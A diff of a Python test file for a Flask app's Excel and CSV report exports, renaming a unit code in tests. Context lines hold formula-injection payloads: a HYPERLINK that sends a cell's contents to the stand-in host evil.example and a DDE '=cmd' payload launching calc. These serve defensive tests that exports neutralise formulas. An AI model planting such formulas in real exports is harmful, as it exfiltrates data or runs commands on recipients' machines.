@@ -23,8 +23,8 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 
 
 def _plant(app: Flask, comment: str, desk_name: str = "") -> tuple[int, str]:
-    """A commented response of QN-DH-QTAN with ``comment``; returns its id and its year."""
-    response_id = response_of_unit(app, "QN-DH-QTAN", with_comment=True)
+    """A commented response of QN-DAMHA-CN with ``comment``; returns its id and its year."""
+    response_id = response_of_unit(app, "QN-DAMHA-CN", with_comment=True)
     with app.app_context():
         db = get_session()
         row = db.get(Comment, response_id)
@@ -51,7 +51,7 @@ def test_the_excel_report_writes_a_formula_comment_and_desk_name_as_text(
     demo: Flask, signed_in: Callable[[str | None], FlaskClient]
 ) -> None:
     _id, year = _plant(demo, HYPERLINK, desk_name="=cmd|' /C calc'!A0")
-    response = signed_in("damha").get(f"/officer/reports/units/QN-DH.xlsx?period={year}")
+    response = signed_in("damha").get(f"/officer/reports/units/QN-DAMHA.xlsx?period={year}")
     assert response.status_code == 200
     book = load_workbook(io.BytesIO(response.get_data()))
     formulas = [
@@ -80,7 +80,9 @@ def test_the_csv_neutralises_comments_starting_with_a_formula_prefix(
 ) -> None:
     comment = prefix + 'HYPERLINK("http://evil.example")'
     response_id, year = _plant(demo, comment)
-    response = signed_in("damha").get(f"/officer/reports/units/QN-DH/responses.csv?period={year}")
+    response = signed_in("damha").get(
+        f"/officer/reports/units/QN-DAMHA/responses.csv?period={year}"
+    )
     assert response.status_code == 200
     rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
     [row] = [r for r in rows if r["response_id"] == str(response_id)]
